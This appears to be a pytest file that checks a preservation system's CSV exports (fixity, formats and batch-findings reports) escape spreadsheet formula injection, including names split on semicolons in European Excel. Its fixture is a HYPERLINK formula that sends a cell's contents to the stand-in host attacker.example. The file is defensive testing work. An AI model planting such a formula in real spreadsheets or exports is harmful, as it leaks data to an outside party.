"""Text that a spreadsheet would take for a formula stays text in every CSV a
person downloads: the fixity report's, the formats report's, the batch findings'
(a depositor chooses file names and record fields; findings quote them)."""

from __future__ import annotations

import csv
import io

import pytest

from ingest.csv_cells import text_cell
from ingest.fixity_report import report_csv
from ingest.format_report import format_report_csv

FORMULA = '=HYPERLINK("attacker.example?"&A1,"click")'


def _fixity_doc() -> dict:
    finding = {"code": "FILE_MISSING", "path": FORMULA, "message": FORMULA}
    return {
        "as_of": "2026-01-01T00:00:00+00:00",
        "coverage": {"covered": 1, "versions": 1, "locations": []},
        "overdue": [],
        "failures": [{"package_id": "p", "version": 1, "location": "file:///x", "tier": "deep",
                      "checked_at": "2026-01-01T00:00:00+00:00", "findings": [finding]}],
        "reconciliation": [{"location": "file:///x", "findings": [finding], "leftovers": []}],
        "unconfigured_locations": [],
    }


def test_the_fixity_report_csv_keeps_formula_text_as_text() -> None:
    rows = list(csv.DictReader(io.StringIO(report_csv(_fixity_doc()))))
    cells = [r[column] for r in rows if r["kind"] != "coverage" for column in ("path", "detail")]
    assert cells == ["'" + FORMULA] * 4


def test_the_formats_report_csv_keeps_formula_text_as_text() -> None:
    doc = {"formats": [{"puid": "", "name": FORMULA, "version": "", "mime": "",
                        "files": 1, "octets": 10}]}
    (row,) = csv.DictReader(io.StringIO(format_report_csv(doc)))
    assert row["name"] == "'" + FORMULA and row["files"] == "1"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(cell: str) -> None:
    assert text_cell(cell) == "'" + cell


def test_numbers_and_ordinary_text_are_left_as_they_are() -> None:
    assert text_cell(-3) == -3 and text_cell(None) is None
    assert text_cell("data/scan.tif") == "data/scan.tif"


def _cells_split_on_semicolons(text: str) -> list[str]:
    """The cells a spreadsheet in a locale whose list separator is ';' reads."""
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


@pytest.mark.parametrize("name", ["x;=2+3", "p;-2+3.txt", "q;@SUM(1+1)"])
def test_a_name_holding_a_semicolon_starts_no_formula_where_excel_splits_on_semicolons(
        name: str) -> None:
    # Before: 'x;=2+3' was written unquoted (the leading-quote guard looks at a cell's
    # first character only), and Excel in most of Europe opens a .csv split on ';'.
    finding = {"code": "FILE_MISSING", "path": name, "message": f"file {name} is missing"}
    doc = {**_fixity_doc(), "failures": [{**_fixity_doc()["failures"][0], "findings": [finding]}],
           "reconciliation": []}
    formats = {"formats": [{"puid": "", "name": name, "version": "", "mime": "",
                            "files": 1, "octets": 10}]}
    for text in (report_csv(doc), format_report_csv(formats)):
        assert not [c for c in _cells_split_on_semicolons(text) if c[:1] in "=+-@"], text
        # told as the formula cases are: the ' a spreadsheet does not show
        shown = name.replace(";", ";'")
        assert any(shown in row.values() for row in csv.DictReader(io.StringIO(text)))


def test_the_batch_findings_csv_starts_no_formula_where_excel_splits_on_semicolons() -> None:
    from strongroom.web.pages.batch import _csv

    finding = {"code": "METADATA_MISSING", "path": "x;=2+3", "message": "x;=2+3 has no metadata"}
    text = "".join(_csv([("x;=2+3", "rejected", finding)])).lstrip("\ufeff")
    assert not [c for c in _cells_split_on_semicolons(text) if c[:1] in "=+-@"], text
    assert list(csv.reader(io.StringIO(text)))[1][:2] == ["x;'=2+3", "rejected"]
